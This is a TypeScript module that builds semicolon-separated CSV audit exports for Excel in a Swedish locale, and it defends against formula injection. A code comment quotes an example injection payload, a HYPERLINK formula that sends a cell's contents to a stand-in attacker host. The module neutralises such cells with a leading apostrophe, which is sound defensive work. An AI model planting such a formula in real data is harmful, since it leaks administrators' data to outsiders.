/**
 * CSV for spreadsheets (the administrator's audit export). Pure. Excel in a Swedish locale
 * opens a file straight away when it is UTF-8 with a byte order mark (otherwise å, ä, ö are
 * read as Windows-1252) and separated by semicolons (the comma is the decimal separator there,
 * so Excel's list separator is `;`). Quoting follows RFC 4180 with `;` instead of `,`, and
 * records end in CRLF.
 */

export type CsvValue = string | number | boolean | null | undefined;

export const CSV_SEPARATOR = ';';
const BOM = '\uFEFF';
const CRLF = '\r\n';

/*
 * Spreadsheet formula injection (CSV injection, OWASP): a cell that starts with = + - or @
 * is evaluated as a formula when the file is opened, and tab or carriage return at the start
 * can push Excel into the same path. The audit log holds text that outsiders control (a
 * username typed at login, a display name, a client address header value), so a crafted value
 * such as `=HYPERLINK("https://evil.example/?"&A1;"klicka")` would run in the administrator's
 * spreadsheet. A leading apostrophe makes Excel and LibreOffice treat the cell as text; the
 * apostrophe is not shown in the cell.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

/** Quotes are needed for the separator, a quote, or a line break anywhere in the value. */
const NEEDS_QUOTES = /[;"\r\n]/;

/** One cell: neutralised, then quoted (inner quotes doubled) when RFC 4180 requires it. */
export function csvCell(value: CsvValue): string {
  if (value === null || value === undefined) return '';
  let text = String(value);
  // A number or boolean cannot be a formula (and -5 must stay a number).
  if (typeof value === 'string' && FORMULA_START.test(text)) text = `'${text}`;
  return NEEDS_QUOTES.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** One record, without its line ending. */
export function csvRow(values: readonly CsvValue[]): string {
  return values.map(csvCell).join(CSV_SEPARATOR);
}

/** A whole file: byte order mark, header, records, each line ending in CRLF. */
export function toCsv(header: readonly string[], rows: readonly (readonly CsvValue[])[]): string {
  return BOM + [header, ...rows].map((row) => csvRow(row) + CRLF).join('');
}
